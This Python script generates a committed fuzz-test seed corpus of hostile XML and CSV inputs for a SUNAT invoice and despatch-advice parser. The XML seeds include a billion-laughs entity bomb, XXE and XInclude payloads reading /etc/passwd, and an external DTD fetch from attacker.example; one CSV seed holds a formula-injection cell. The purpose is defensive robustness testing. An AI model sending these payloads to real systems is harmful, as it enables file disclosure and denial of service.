"""Write the committed seed corpus of hostile inputs (run once; the files are committed).

``python -m tests.reliability.make_corpus`` rewrites tests/reliability/corpus/. The fuzz
tests and benchmarks/fuzz.py start from these files, and from the real SUNAT samples in
tests/ingest/ubl_samples (their licence sits beside them)."""

from __future__ import annotations

from pathlib import Path

from tests.factories import BUYER, SELLER
from tests.ingest.ubl.docs import guide, invoice

CORPUS = Path(__file__).resolve().parent / "corpus"
ROOT = '<DespatchAdvice xmlns="urn:oasis:names:specification:ubl:schema:xsd:DespatchAdvice-2">'
HEADER = "declarant_ruc,establishment_code,date,type,chemical,quantity,unit,declaration_id"


def xml_seeds() -> dict[str, bytes]:
    lol = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return {
        "guide.xml": guide().encode(),
        "invoice.xml": invoice().encode(),
        "billion_laughs.xml": (f'<?xml version="1.0"?>\n<!DOCTYPE lolz [{"".join(lol)}]>\n'
                               f"{ROOT}<ID>&lol9;</ID></DespatchAdvice>").encode(),
        "xxe_file.xml": (f'<?xml version="1.0"?>\n<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
                         f"{ROOT}<ID>&x;</ID></DespatchAdvice>").encode(),
        "xxe_utf16.xml": (f'<?xml version="1.0" encoding="UTF-16"?>\n<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
                          f"{ROOT}<ID>&x;</ID></DespatchAdvice>").encode("utf-16"),
        "xxe_parameter.xml": (f'<!DOCTYPE d [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'
                              f"{ROOT}</DespatchAdvice>").encode(),
        "deep.xml": (ROOT + "<a>" * 300 + "</a>" * 300 + "</DespatchAdvice>").encode(),
        "malformed.xml": (ROOT + "<ID>1</Id></DespatchAdvice>").encode(),
        "not_ubl.xml": b"<html><body>hello</body></html>",
        "empty.xml": b"",
        "bom_and_junk.xml": b"\xef\xbb\xbf\x00\x00<?xml?>",
        "xinclude.xml": (f'{ROOT}<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
                         'parse="text"/></DespatchAdvice>').encode(),
    }


def csv_seeds() -> dict[str, bytes]:
    ok = f"{SELLER},0000,2025-02-01,consumption,sulfuric_acid,5,kg,C-1"
    return {
        "valid.csv": f"{HEADER}\n{ok}\n".encode(),
        "formula.csv": f'{HEADER}\n{SELLER},0000,2025-02-01,consumption,"=HYPERLINK(""http://x"")",5,kg,C-2\n'.encode(),
        "quotes.csv": f'{HEADER}\n"{SELLER}","00""00",2025-02-01,consumption,sulfuric_acid,"5,5",kg,C-3\n'.encode(),
        "latin1.csv": f"{HEADER}\n{BUYER},0000,2025-02-01,consumption,ácido,5,kg,C-4\n".encode("latin-1"),
        "nul.csv": f"{HEADER}\n{SELLER},0000,2025-02-01,consum\x00ption,sulfuric_acid,5,kg,C-5\n".encode(),
        "huge_number.csv": f"{HEADER}\n{SELLER},0000,2025-02-01,consumption,sulfuric_acid,1e308,kg,C-6\n".encode(),
        "nan.csv": f"{HEADER}\n{SELLER},0000,2025-02-01,consumption,sulfuric_acid,NaN,kg,C-7\n".encode(),
        "negative.csv": f"{HEADER}\n{SELLER},0000,2025-02-01,consumption,sulfuric_acid,-5,kg,C-8\n".encode(),
        "bad_date.csv": f"{HEADER}\n{SELLER},0000,2025-02-30,consumption,sulfuric_acid,5,kg,C-9\n".encode(),
        "ragged.csv": f"{HEADER}\n{SELLER},0000\n{ok},extra,cells\n".encode(),
        "header_only.csv": f"{HEADER}\n".encode(),
        "no_header.csv": b"",
        "unclosed_quote.csv": f'{HEADER}\n"{SELLER},0000,2025-02-01\n'.encode(),
        "long_cell.csv": f"{HEADER}\n{SELLER},0000,2025-02-01,consumption,{'x' * 5000},5,kg,C-10\n".encode(),
        "dup_columns.csv": f"{HEADER},quantity\n{ok},7\n".encode(),
        "crlf_bom.csv": ("\ufeff" + HEADER + "\r\n" + ok + "\r\n").encode(),
    }


def main() -> None:
    for folder, seeds in (("xml", xml_seeds()), ("csv", csv_seeds())):
        (CORPUS / folder).mkdir(parents=True, exist_ok=True)
        for name, data in seeds.items():
            (CORPUS / folder / name).write_bytes(data)


if __name__ == "__main__":
    main()
